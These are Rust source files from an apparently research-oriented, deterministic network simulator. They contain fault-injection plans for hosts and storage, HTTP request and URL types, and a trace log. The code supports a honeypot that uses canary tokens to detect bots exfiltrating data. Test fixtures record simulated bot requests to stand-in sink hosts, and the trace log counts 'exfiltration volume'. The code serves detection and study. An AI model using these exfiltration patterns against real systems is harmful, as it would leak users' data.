//! modes (invalid invite links, removed bots, slow-redirect timeouts), so the
//! synthetic ecosystem assigns fault plans to hosts to recreate that mix.
//!
//! The same machinery covers the *storage* side of a long-running audit: a
//! [`StorageFaultPlan`] perturbs the durable store's backend the way a
//! crash-prone machine does — torn (short) appends, flipped bits, short
//! reads — and [`FaultyBackend`] wraps any [`store::Backend`] with it, so
//! the journal's recovery paths are exercised by tests instead of assumed.

use parking_lot::Mutex;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};
use std::io;
use std::sync::Arc;

/// What the fabric decided to do to a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultOutcome {
    /// Deliver the service's real response.
    Deliver,
    /// Never answer; the client will burn its timeout budget.
    BlackHole,
    /// Replace the response with a 404.
    NotFound,
    /// Replace the response with a 500.
    ServerError,
    /// Prepend one extra redirect hop through the same host.
    ExtraRedirect,
    /// Refuse the connection outright.
    Refuse,
}

/// Per-host fault probabilities. All fields are probabilities in `[0, 1]`
/// and are evaluated in the declared order; the first hit wins.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct FaultPlan {
    /// Probability the host never answers.
    pub black_hole: f64,
    /// Probability of a spurious 404.
    pub not_found: f64,
    /// Probability of a 500.
    pub server_error: f64,
    /// Probability of inserting an extra redirect hop.
    pub extra_redirect: f64,
    /// Probability the connection is refused.
    pub refuse: f64,
}

impl FaultPlan {
    /// A host that never misbehaves.
    pub fn none() -> FaultPlan {
        FaultPlan::default()
    }

    /// A host with light background noise (sub-percent errors) — what a
    /// healthy production site looks like from outside.
    pub fn background_noise() -> FaultPlan {
        FaultPlan {
            black_hole: 0.002,
            not_found: 0.0,
            server_error: 0.005,
            extra_redirect: 0.0,
            refuse: 0.001,
        }
    }

    /// A decaying host typical of abandoned bot websites: frequent dead
    /// responses and redirect loops.
    pub fn decaying() -> FaultPlan {
        FaultPlan {
            black_hole: 0.25,
            not_found: 0.30,
            server_error: 0.10,
            extra_redirect: 0.20,
            refuse: 0.05,
        }
    }

    /// Roll the dice for one request.
    pub fn roll<R: Rng + ?Sized>(&self, rng: &mut R) -> FaultOutcome {
        // Evaluate sequentially so the plan reads as "first matching fault".
        let p: f64 = rng.gen();
        let mut acc = 0.0;
        for (prob, outcome) in [
            (self.black_hole, FaultOutcome::BlackHole),
            (self.not_found, FaultOutcome::NotFound),
            (self.server_error, FaultOutcome::ServerError),
            (self.extra_redirect, FaultOutcome::ExtraRedirect),
            (self.refuse, FaultOutcome::Refuse),
        ] {
            acc += prob.clamp(0.0, 1.0);
            if p < acc {
                return outcome;
            }
        }
        FaultOutcome::Deliver
    }

    /// True when all probabilities are zero (fast path for the fabric).
    pub fn is_none(&self) -> bool {
        self.black_hole == 0.0
            && self.not_found == 0.0
            && self.server_error == 0.0
            && self.extra_redirect == 0.0
            && self.refuse == 0.0
    }
}

/// What the plan decided to do to one storage operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StorageFaultOutcome {
    /// Perform the operation faithfully.
    Commit,
    /// Write only a prefix of the bytes (a torn append: power loss between
    /// the first and last sector of a multi-sector write).
    TornWrite,
    /// Flip one bit of the bytes before writing (firmware/medium error).
    BitFlip,
    /// Return only a prefix of the bytes on read (short read).
    ShortRead,
}

/// Per-store fault probabilities, evaluated like [`FaultPlan`]: in declared
/// order, first hit wins. Write faults and read faults are rolled
/// independently by the operations they apply to.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct StorageFaultPlan {
    /// Probability an append is torn (short-written).
    pub torn_write: f64,
    /// Probability an append has one bit flipped.
    pub bit_flip: f64,
    /// Probability a read returns a short prefix.
    pub short_read: f64,
}

impl StorageFaultPlan {
    /// Storage that never misbehaves.
    pub fn none() -> StorageFaultPlan {
        StorageFaultPlan::default()
    }

    /// A crash-prone machine: appends frequently torn, the occasional
    /// flipped bit — the workload the journal's recovery is built for.
    pub fn crashy() -> StorageFaultPlan {
        StorageFaultPlan {
            torn_write: 0.15,
            bit_flip: 0.02,
            short_read: 0.0,
        }
    }

    /// Roll the dice for one write operation.
    pub fn roll_write<R: Rng + ?Sized>(&self, rng: &mut R) -> StorageFaultOutcome {
        let p: f64 = rng.gen();
        let mut acc = 0.0;
        for (prob, outcome) in [
            (self.torn_write, StorageFaultOutcome::TornWrite),
            (self.bit_flip, StorageFaultOutcome::BitFlip),
        ] {
            acc += prob.clamp(0.0, 1.0);
            if p < acc {
                return outcome;
            }
        }
        StorageFaultOutcome::Commit
    }

    /// Roll the dice for one read operation.
    pub fn roll_read<R: Rng + ?Sized>(&self, rng: &mut R) -> StorageFaultOutcome {
        if rng.gen::<f64>() < self.short_read.clamp(0.0, 1.0) {
            StorageFaultOutcome::ShortRead
        } else {
            StorageFaultOutcome::Commit
        }
    }

    /// True when all probabilities are zero.
    pub fn is_none(&self) -> bool {
        self.torn_write == 0.0 && self.bit_flip == 0.0 && self.short_read == 0.0
    }
}

/// A [`store::Backend`] decorator that damages bytes according to a
/// [`StorageFaultPlan`] with a deterministic, seeded RNG — the storage
/// counterpart of mounting a host behind a noisy [`FaultPlan`].
///
/// Only `append` and `read` are perturbed. `write_atomic` is left faithful
/// on purpose: it models the rename-based replace whose atomicity is the
/// filesystem's contract, while appends model the multi-sector writes that
/// really do tear.
pub struct FaultyBackend {
    inner: Arc<dyn store::Backend>,
    plan: StorageFaultPlan,
    rng: Mutex<StdRng>,
}

impl FaultyBackend {
    /// Wrap `inner`, damaging operations per `plan`, deterministically from
    /// `seed`.
    pub fn new(inner: Arc<dyn store::Backend>, plan: StorageFaultPlan, seed: u64) -> FaultyBackend {
        FaultyBackend {
            inner,
            plan,
            rng: Mutex::new(StdRng::seed_from_u64(seed)),
        }
    }
}

impl store::Backend for FaultyBackend {
    fn read(&self, name: &str) -> io::Result<Option<Vec<u8>>> {
        let bytes = self.inner.read(name)?;
        if self.plan.is_none() {
            return Ok(bytes);
        }
        Ok(bytes.map(|mut b| {
            let mut rng = self.rng.lock();
            if self.plan.roll_read(&mut *rng) == StorageFaultOutcome::ShortRead && !b.is_empty() {
                let keep = rng.gen_range(0..b.len());
                b.truncate(keep);
            }
            b
        }))
    }

    fn write_atomic(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        self.inner.write_atomic(name, bytes)
    }

    fn append(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        if self.plan.is_none() || bytes.is_empty() {
            return self.inner.append(name, bytes);
        }
        let mut rng = self.rng.lock();
        match self.plan.roll_write(&mut *rng) {
            StorageFaultOutcome::TornWrite => {
                let keep = rng.gen_range(0..bytes.len());
                self.inner.append(name, &bytes[..keep])
            }
            StorageFaultOutcome::BitFlip => {
                let mut damaged = bytes.to_vec();
                let byte = rng.gen_range(0..damaged.len());
                let bit = rng.gen_range(0..8u32);
                damaged[byte] ^= 1 << bit;
                self.inner.append(name, &damaged)
            }
            _ => self.inner.append(name, bytes),
        }
    }

    fn remove(&self, name: &str) -> io::Result<()> {
        self.inner.remove(name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn none_always_delivers() {
        let mut rng = StdRng::seed_from_u64(1);
        let plan = FaultPlan::none();
        assert!(plan.is_none());
        for _ in 0..100 {
            assert_eq!(plan.roll(&mut rng), FaultOutcome::Deliver);
        }
    }

    #[test]
    fn certain_fault_always_fires() {
        let mut rng = StdRng::seed_from_u64(2);
        let plan = FaultPlan {
            not_found: 1.0,
            ..FaultPlan::default()
        };
        for _ in 0..50 {
            assert_eq!(plan.roll(&mut rng), FaultOutcome::NotFound);
        }
    }

    #[test]
    fn mixture_roughly_matches_probabilities() {
        let mut rng = StdRng::seed_from_u64(3);
        let plan = FaultPlan {
            black_hole: 0.2,
            not_found: 0.3,
            ..FaultPlan::default()
        };
        let mut holes = 0;
        let mut nf = 0;
        let mut ok = 0;
        const N: usize = 10_000;
        for _ in 0..N {
            match plan.roll(&mut rng) {
                FaultOutcome::BlackHole => holes += 1,
                FaultOutcome::NotFound => nf += 1,
                FaultOutcome::Deliver => ok += 1,
                other => panic!("unexpected outcome {other:?}"),
            }
        }
        let frac = |n: usize| n as f64 / N as f64;
        assert!(
            (frac(holes) - 0.2).abs() < 0.02,
            "black holes {}",
            frac(holes)
        );
        assert!((frac(nf) - 0.3).abs() < 0.02, "not found {}", frac(nf));
        assert!((frac(ok) - 0.5).abs() < 0.02, "ok {}", frac(ok));
    }

    #[test]
    fn presets_are_sane() {
        assert!(FaultPlan::background_noise().black_hole < 0.01);
        let d = FaultPlan::decaying();
        assert!(d.black_hole + d.not_found + d.server_error + d.extra_redirect + d.refuse < 1.0);
    }

    #[test]
    fn storage_plan_none_commits() {
        let mut rng = StdRng::seed_from_u64(4);
        let plan = StorageFaultPlan::none();
        assert!(plan.is_none());
        for _ in 0..50 {
            assert_eq!(plan.roll_write(&mut rng), StorageFaultOutcome::Commit);
            assert_eq!(plan.roll_read(&mut rng), StorageFaultOutcome::Commit);
        }
    }

    #[test]
    fn certain_torn_write_always_tears() {
        let mut rng = StdRng::seed_from_u64(5);
        let plan = StorageFaultPlan {
            torn_write: 1.0,
            ..StorageFaultPlan::default()
        };
        for _ in 0..50 {
            assert_eq!(plan.roll_write(&mut rng), StorageFaultOutcome::TornWrite);
        }
    }

    #[test]
    fn faulty_backend_tears_appends_deterministically() {
        use store::Backend;
        let run = |seed: u64| {
            let inner = Arc::new(store::MemBackend::new());
            let faulty = FaultyBackend::new(
                inner.clone(),
                StorageFaultPlan {
                    torn_write: 0.5,
                    ..StorageFaultPlan::default()
                },
                seed,
            );
            for _ in 0..20 {
                faulty.append("f", b"0123456789").unwrap();
            }
            inner.read("f").unwrap().unwrap()
        };
        let a = run(11);
        assert_eq!(a, run(11), "same seed, same damage");
        assert!(a.len() < 200, "half the appends should be torn short");
        assert!(!a.is_empty());
    }

    #[test]
    fn faulty_backend_flips_exactly_one_bit() {
        use store::Backend;
        let inner = Arc::new(store::MemBackend::new());
        let faulty = FaultyBackend::new(
            inner.clone(),
            StorageFaultPlan {
                bit_flip: 1.0,
                ..StorageFaultPlan::default()
            },
            3,
        );
        let payload = vec![0u8; 64];
        faulty.append("f", &payload).unwrap();
        let stored = inner.read("f").unwrap().unwrap();
        assert_eq!(stored.len(), 64);
        let flipped: u32 = stored.iter().map(|b| b.count_ones()).sum();
        assert_eq!(flipped, 1, "exactly one bit flipped");
    }

    #[test]
    fn faulty_backend_short_reads_but_never_errors() {
        use store::Backend;
        let inner = Arc::new(store::MemBackend::new());
        inner.append("f", &[7u8; 100]).unwrap();
        let faulty = FaultyBackend::new(
            inner,
            StorageFaultPlan {
                short_read: 1.0,
                ..StorageFaultPlan::default()
            },
            9,
        );
        let got = faulty.read("f").unwrap().unwrap();
        assert!(got.len() < 100);
        assert_eq!(faulty.read("missing").unwrap(), None);
    }

    #[test]
    fn faulty_backend_leaves_atomic_writes_alone() {
        use store::Backend;
        let inner = Arc::new(store::MemBackend::new());
        let faulty = FaultyBackend::new(inner, StorageFaultPlan::crashy(), 1);
        for _ in 0..20 {
            faulty.write_atomic("f", b"pristine").unwrap();
            assert_eq!(faulty.read("f").unwrap().as_deref(), Some(&b"pristine"[..]));
        }
    }
}
