//! Minimal HTTP-shaped request/response types and a URL parser.
//!
//! This is deliberately a *subset*: enough structure for a crawler, a bot
//! listing site, OAuth-style invite links with query parameters, and a
//! canary-token sink to interoperate. No wire format is implemented —
//! requests are in-memory events on the fabric.

use crate::error::NetError;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// HTTP request methods used in the simulation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Method {
    /// Fetch a resource.
    Get,
    /// Submit a form / create a resource.
    Post,
    /// Metadata-only fetch (used by the link validator).
    Head,
}

impl fmt::Display for Method {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Method::Get => "GET",
            Method::Post => "POST",
            Method::Head => "HEAD",
        })
    }
}

/// Response status codes, restricted to those the simulation emits.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Status {
    /// 200 — success.
    Ok,
    /// 302 — redirect to the `Location` header.
    Found,
    /// 304 — the cached representation is still fresh (conditional GET).
    NotModified,
    /// 400 — the server rejected the request shape.
    BadRequest,
    /// 401 — authentication required (email-verification wall).
    Unauthorized,
    /// 403 — captcha wall or outright ban.
    Forbidden,
    /// 404 — dead link.
    NotFound,
    /// 410 — resource deliberately removed (delisted bot).
    Gone,
    /// 429 — rate limited.
    TooManyRequests,
    /// 500 — server error.
    InternalError,
    /// 503 — temporarily unavailable.
    Unavailable,
}

impl Status {
    /// Numeric code, for logs and report tables.
    pub fn code(self) -> u16 {
        match self {
            Status::Ok => 200,
            Status::Found => 302,
            Status::NotModified => 304,
            Status::BadRequest => 400,
            Status::Unauthorized => 401,
            Status::Forbidden => 403,
            Status::NotFound => 404,
            Status::Gone => 410,
            Status::TooManyRequests => 429,
            Status::InternalError => 500,
            Status::Unavailable => 503,
        }
    }

    /// Whether this status indicates success.
    pub fn is_success(self) -> bool {
        self == Status::Ok
    }

    /// Whether this status is a redirect.
    pub fn is_redirect(self) -> bool {
        self == Status::Found
    }
}

impl fmt::Display for Status {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.code())
    }
}

/// A parsed URL: `scheme://host/path?query#fragment`.
///
/// Invariants: `host` is non-empty and lowercase; `path` always starts with
/// `/`; query keys preserve insertion order via `BTreeMap` (sorted — good
/// enough for the simulation and deterministic).
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Url {
    /// `https` in virtually all simulated links.
    pub scheme: String,
    /// Lowercased host name, e.g. `top.gg`.
    pub host: String,
    /// Absolute path, e.g. `/bot/1234`.
    pub path: String,
    /// Decoded query parameters.
    pub query: BTreeMap<String, String>,
    /// Fragment after `#`, if any.
    pub fragment: Option<String>,
}

impl Url {
    /// Parse a URL string. Accepts `scheme://host[/path][?query][#fragment]`.
    pub fn parse(input: &str) -> Result<Url, NetError> {
        let malformed = |reason: &str| NetError::Malformed {
            reason: format!("{reason}: {input:?}"),
        };
        let (scheme, rest) = input
            .split_once("://")
            .ok_or_else(|| malformed("missing scheme"))?;
        if scheme.is_empty()
            || !scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '+')
        {
            return Err(malformed("bad scheme"));
        }
        let (rest, fragment) = match rest.split_once('#') {
            Some((r, f)) => (r, Some(f.to_string())),
            None => (rest, None),
        };
        let (rest, query_str) = match rest.split_once('?') {
            Some((r, q)) => (r, Some(q)),
            None => (rest, None),
        };
        let (host, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        if host.is_empty() {
            return Err(malformed("empty host"));
        }
        if !host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_')
        {
            return Err(malformed("bad host"));
        }
        let mut query = BTreeMap::new();
        if let Some(q) = query_str {
            for pair in q.split('&').filter(|p| !p.is_empty()) {
                match pair.split_once('=') {
                    Some((k, v)) => query.insert(percent_decode(k), percent_decode(v)),
                    None => query.insert(percent_decode(pair), String::new()),
                };
            }
        }
        Ok(Url {
            scheme: scheme.to_ascii_lowercase(),
            host: host.to_ascii_lowercase(),
            path: path.to_string(),
            query,
            fragment,
        })
    }

    /// Build a simple `https` URL from host and path.
    pub fn https(host: &str, path: &str) -> Url {
        let path = if path.starts_with('/') {
            path.to_string()
        } else {
            format!("/{path}")
        };
        Url {
            scheme: "https".into(),
            host: host.to_ascii_lowercase(),
            path,
            query: BTreeMap::new(),
            fragment: None,
        }
    }

    /// Return a copy with one query parameter added/replaced.
    pub fn with_query(mut self, key: &str, value: &str) -> Url {
        self.query.insert(key.to_string(), value.to_string());
        self
    }

    /// Get a query parameter by key.
    pub fn query_param(&self, key: &str) -> Option<&str> {
        self.query.get(key).map(String::as_str)
    }

    /// Path segments, skipping empty ones: `/bot/123/` → `["bot", "123"]`.
    pub fn segments(&self) -> Vec<&str> {
        self.path.split('/').filter(|s| !s.is_empty()).collect()
    }

    /// Resolve a possibly-relative `location` against this URL (used when
    /// following redirects).
    pub fn join(&self, location: &str) -> Result<Url, NetError> {
        if location.contains("://") {
            Url::parse(location)
        } else if let Some(stripped) = location.strip_prefix('/') {
            let mut u = self.clone();
            let (path, q) = match stripped.split_once('?') {
                Some((p, q)) => (p, Some(q)),
                None => (stripped, None),
            };
            u.path = format!("/{path}");
            u.query.clear();
            if let Some(q) = q {
                for pair in q.split('&').filter(|p| !p.is_empty()) {
                    if let Some((k, v)) = pair.split_once('=') {
                        u.query.insert(percent_decode(k), percent_decode(v));
                    }
                }
            }
            u.fragment = None;
            Ok(u)
        } else {
            Err(NetError::Malformed {
                reason: format!("relative redirect {location:?} unsupported"),
            })
        }
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}://{}{}", self.scheme, self.host, self.path)?;
        if !self.query.is_empty() {
            let q: Vec<String> = self
                .query
                .iter()
                .map(|(k, v)| {
                    if v.is_empty() {
                        percent_encode(k)
                    } else {
                        format!("{}={}", percent_encode(k), percent_encode(v))
                    }
                })
                .collect();
            write!(f, "?{}", q.join("&"))?;
        }
        if let Some(frag) = &self.fragment {
            write!(f, "#{frag}")?;
        }
        Ok(())
    }
}

/// Percent-encode the characters that would break our query parsing.
fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// Decode `%XX` escapes and `+`-as-space.
fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'%' if i + 2 < bytes.len() => {
                if let (Some(h), Some(l)) = (hex_val(bytes[i + 1]), hex_val(bytes[i + 2])) {
                    out.push(h * 16 + l);
                    i += 3;
                    continue;
                }
                out.push(b'%');
                i += 1;
            }
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// An in-memory HTTP-shaped request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// Request method.
    pub method: Method,
    /// Target URL.
    pub url: Url,
    /// Headers (lowercased keys).
    pub headers: BTreeMap<String, String>,
    /// Request body (form submissions, token payloads).
    pub body: Vec<u8>,
}

impl Request {
    /// A GET request for `url`.
    pub fn get(url: Url) -> Request {
        Request {
            method: Method::Get,
            url,
            headers: BTreeMap::new(),
            body: Vec::new(),
        }
    }

    /// A POST request with a body.
    pub fn post(url: Url, body: impl Into<Vec<u8>>) -> Request {
        Request {
            method: Method::Post,
            url,
            headers: BTreeMap::new(),
            body: body.into(),
        }
    }

    /// A HEAD request for `url`.
    pub fn head(url: Url) -> Request {
        Request {
            method: Method::Head,
            url,
            headers: BTreeMap::new(),
            body: Vec::new(),
        }
    }

    /// Set a header, lowercasing the key; returns self for chaining.
    pub fn with_header(mut self, key: &str, value: &str) -> Request {
        self.headers
            .insert(key.to_ascii_lowercase(), value.to_string());
        self
    }

    /// Read a header (key lookup is case-insensitive because keys are stored
    /// lowercased).
    pub fn header(&self, key: &str) -> Option<&str> {
        self.headers
            .get(&key.to_ascii_lowercase())
            .map(String::as_str)
    }
}

/// An in-memory HTTP-shaped response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    /// Status code.
    pub status: Status,
    /// Headers (lowercased keys).
    pub headers: BTreeMap<String, String>,
    /// Response body.
    pub body: Vec<u8>,
}

impl Response {
    /// 200 response with a text body.
    pub fn ok(body: impl Into<Vec<u8>>) -> Response {
        Response {
            status: Status::Ok,
            headers: BTreeMap::new(),
            body: body.into(),
        }
    }

    /// Empty response with the given status.
    pub fn status(status: Status) -> Response {
        Response {
            status,
            headers: BTreeMap::new(),
            body: Vec::new(),
        }
    }

    /// 302 redirect to `location`.
    pub fn redirect(location: &str) -> Response {
        let mut r = Response::status(Status::Found);
        r.headers.insert("location".into(), location.to_string());
        r
    }

    /// 304 carrying the validator that matched (body stays empty: the
    /// whole point is that no content crosses the wire).
    pub fn not_modified(etag: &str) -> Response {
        Response::status(Status::NotModified).with_header("etag", etag)
    }

    /// 429 with a `retry-after` header in milliseconds.
    pub fn rate_limited(retry_after_ms: u64) -> Response {
        let mut r = Response::status(Status::TooManyRequests);
        r.headers
            .insert("retry-after-ms".into(), retry_after_ms.to_string());
        r
    }

    /// Set a header; returns self for chaining.
    pub fn with_header(mut self, key: &str, value: &str) -> Response {
        self.headers
            .insert(key.to_ascii_lowercase(), value.to_string());
        self
    }

    /// Read a header.
    pub fn header(&self, key: &str) -> Option<&str> {
        self.headers
            .get(&key.to_ascii_lowercase())
            .map(String::as_str)
    }

    /// Body as UTF-8 text (lossy).
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_full_url() {
        let u = Url::parse("https://Top.GG/bot/123?scope=bot&permissions=8#perm").unwrap();
        assert_eq!(u.scheme, "https");
        assert_eq!(u.host, "top.gg");
        assert_eq!(u.path, "/bot/123");
        assert_eq!(u.query_param("scope"), Some("bot"));
        assert_eq!(u.query_param("permissions"), Some("8"));
        assert_eq!(u.fragment.as_deref(), Some("perm"));
        assert_eq!(u.segments(), vec!["bot", "123"]);
    }

    #[test]
    fn parse_bare_host() {
        let u = Url::parse("https://example.com").unwrap();
        assert_eq!(u.path, "/");
        assert!(u.query.is_empty());
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!(Url::parse("not a url").is_err());
        assert!(Url::parse("https://").is_err());
        assert!(Url::parse("://host/x").is_err());
        assert!(Url::parse("https://ho st/x").is_err());
    }

    #[test]
    fn display_roundtrip() {
        let s = "https://top.gg/bot/99?permissions=2048&scope=bot";
        let u = Url::parse(s).unwrap();
        assert_eq!(u.to_string(), s);
        let u2 = Url::parse(&u.to_string()).unwrap();
        assert_eq!(u, u2);
    }

    #[test]
    fn percent_roundtrip() {
        let u = Url::https("h.com", "/p").with_query("q", "a b&c=d");
        let s = u.to_string();
        let back = Url::parse(&s).unwrap();
        assert_eq!(back.query_param("q"), Some("a b&c=d"));
    }

    #[test]
    fn join_absolute_and_rooted() {
        let base = Url::parse("https://a.com/x/y?k=v").unwrap();
        let abs = base.join("https://b.com/z").unwrap();
        assert_eq!(abs.host, "b.com");
        let rooted = base.join("/login?next=home").unwrap();
        assert_eq!(rooted.host, "a.com");
        assert_eq!(rooted.path, "/login");
        assert_eq!(rooted.query_param("next"), Some("home"));
        assert!(base.join("relative/path").is_err());
    }

    #[test]
    fn headers_case_insensitive() {
        let r = Request::get(Url::https("h.com", "/")).with_header("User-Agent", "crawler");
        assert_eq!(r.header("user-agent"), Some("crawler"));
        assert_eq!(r.header("USER-AGENT"), Some("crawler"));
    }

    #[test]
    fn response_helpers() {
        let r = Response::redirect("/next");
        assert!(r.status.is_redirect());
        assert_eq!(r.header("location"), Some("/next"));
        let r = Response::rate_limited(1500);
        assert_eq!(r.status.code(), 429);
        assert_eq!(r.header("retry-after-ms"), Some("1500"));
        assert_eq!(Response::ok("hi").text(), "hi");
    }

    #[test]
    fn status_codes() {
        assert!(Status::Ok.is_success());
        assert!(!Status::NotFound.is_success());
        assert_eq!(Status::Gone.code(), 410);
        assert_eq!(Status::Unavailable.code(), 503);
    }

    #[test]
    fn not_modified_is_bodyless_and_neither_success_nor_redirect() {
        let r = Response::not_modified("v1-abc");
        assert_eq!(r.status.code(), 304);
        assert!(!r.status.is_success());
        assert!(!r.status.is_redirect());
        assert!(r.body.is_empty());
        assert_eq!(r.header("etag"), Some("v1-abc"));
    }
}
