//! Request tracing.
//!
//! The fabric appends one [`TraceEntry`] per dispatched request. Tests and
//! the honeypot's attribution logic read the trace to answer questions like
//! "who fetched this canary URL, and when?" — the simulated analogue of the
//! canarytokens server's signal log.

use crate::clock::{SimDuration, SimInstant};
use crate::http::{Method, Status};

/// One dispatched request, as observed by the fabric.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceEntry {
    /// Virtual time the request was dispatched.
    pub at: SimInstant,
    /// Logical requester identity (client label, e.g. `"crawler"` or a bot
    /// backend tag). The fabric does not interpret it.
    pub requester: String,
    /// Request method.
    pub method: Method,
    /// Full URL as a string (kept flat for cheap matching).
    pub url: String,
    /// Final status delivered to the client, if any (None = black hole).
    pub status: Option<Status>,
    /// Sampled round-trip latency.
    pub latency: SimDuration,
    /// Bytes the requester sent (URL + body) — the exfiltration-volume
    /// measure a network tap would report.
    pub request_bytes: usize,
}

/// Append-only trace log.
#[derive(Debug, Default)]
pub struct TraceLog {
    entries: Vec<TraceEntry>,
}

impl TraceLog {
    /// Empty log.
    pub fn new() -> TraceLog {
        TraceLog::default()
    }

    /// Append an entry.
    pub fn record(&mut self, entry: TraceEntry) {
        self.entries.push(entry);
    }

    /// All entries, in dispatch order.
    pub fn entries(&self) -> &[TraceEntry] {
        &self.entries
    }

    /// Entries whose URL contains `needle`.
    pub fn matching_url(&self, needle: &str) -> Vec<&TraceEntry> {
        self.entries
            .iter()
            .filter(|e| e.url.contains(needle))
            .collect()
    }

    /// Entries made by a given requester.
    pub fn by_requester(&self, requester: &str) -> Vec<&TraceEntry> {
        self.entries
            .iter()
            .filter(|e| e.requester == requester)
            .collect()
    }

    /// Number of recorded requests.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Total bytes sent by requesters whose label contains `needle`.
    pub fn bytes_sent_by(&self, needle: &str) -> usize {
        self.entries
            .iter()
            .filter(|e| e.requester.contains(needle))
            .map(|e| e.request_bytes)
            .sum()
    }

    /// True when nothing has been recorded.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(requester: &str, url: &str, at_ms: u64) -> TraceEntry {
        TraceEntry {
            at: SimInstant::from_millis(at_ms),
            requester: requester.into(),
            method: Method::Get,
            url: url.into(),
            status: Some(Status::Ok),
            latency: SimDuration::from_millis(50),
            request_bytes: url.len(),
        }
    }

    #[test]
    fn filters_work() {
        let mut log = TraceLog::new();
        log.record(entry("crawler", "https://top.gg/list?page=1", 0));
        log.record(entry("bot-42", "https://canary.sink/t/abc123", 10));
        log.record(entry("crawler", "https://top.gg/bot/7", 20));

        assert_eq!(log.len(), 3);
        assert_eq!(log.matching_url("canary.sink").len(), 1);
        assert_eq!(log.by_requester("crawler").len(), 2);
        assert_eq!(log.by_requester("nobody").len(), 0);
        assert!(!log.is_empty());
    }

    #[test]
    fn preserves_order() {
        let mut log = TraceLog::new();
        for i in 0..5 {
            log.record(entry("c", "u", i * 10));
        }
        let times: Vec<u64> = log.entries().iter().map(|e| e.at.as_millis()).collect();
        assert_eq!(times, vec![0, 10, 20, 30, 40]);
    }

    #[test]
    fn bytes_accounting() {
        let mut log = TraceLog::new();
        log.record(entry("backend-x", "https://drop.zone/abcd", 0));
        log.record(entry("crawler", "https://top.gg/p", 5));
        assert_eq!(log.bytes_sent_by("backend"), "https://drop.zone/abcd".len());
        assert_eq!(log.bytes_sent_by("nobody"), 0);
    }
}
