//! # netsim — deterministic virtual network fabric
//!
//! Everything in this reproduction that would have touched the real Internet
//! (the top.gg crawler, GitHub link resolution, canary-token callbacks, bot
//! backends phoning home) runs over this crate instead.
//!
//! Design goals, in the spirit of the event-driven stacks this project is
//! modeled after:
//!
//! * **Deterministic.** There is no wall clock anywhere. All time is a
//!   [`clock::VirtualClock`] that only advances when the simulation says so,
//!   and all randomness flows from a caller-supplied seed. Two runs with the
//!   same seed produce byte-identical traces.
//! * **Event-driven.** Hosts are [`fabric::Service`] implementations mounted
//!   on a [`fabric::Network`]; a request is an event that advances the clock
//!   by a latency sample and may be perturbed by a [`fault::FaultPlan`].
//! * **Honest failure modes.** The paper's crawler had to survive timeouts,
//!   slow redirects, captchas, and rate limits; this fabric produces all of
//!   them on demand so the pipeline above is exercised the way the real one
//!   was.
//!
//! The entry points are [`fabric::Network`] for mounting services and
//! [`client::HttpClient`] for well-behaved (politeness-rate-limited,
//! redirect-following, retrying) access to them.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod client;
pub mod clock;
pub mod dns;
pub mod error;
pub mod fabric;
pub mod fault;
pub mod http;
pub mod latency;
pub mod ratelimit;
pub mod seed;
pub mod trace;

pub use client::{ClientConfig, HttpClient};
pub use clock::{Clock, SimDuration, SimInstant, VirtualClock};
pub use error::NetError;
pub use fabric::{Network, Service, ServiceCtx};
pub use fault::{FaultPlan, FaultyBackend, StorageFaultOutcome, StorageFaultPlan};
pub use http::{Method, Request, Response, Status, Url};
pub use seed::{splitmix, splitmix64};

/// Convenience result alias used throughout the fabric.
pub type NetResult<T> = Result<T, NetError>;
