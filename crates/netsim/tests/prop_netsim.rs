//! Property tests for the network fabric.

use netsim::clock::{SimDuration, VirtualClock};
use netsim::fault::{FaultOutcome, FaultPlan};
use netsim::http::{Request, Response, Url};
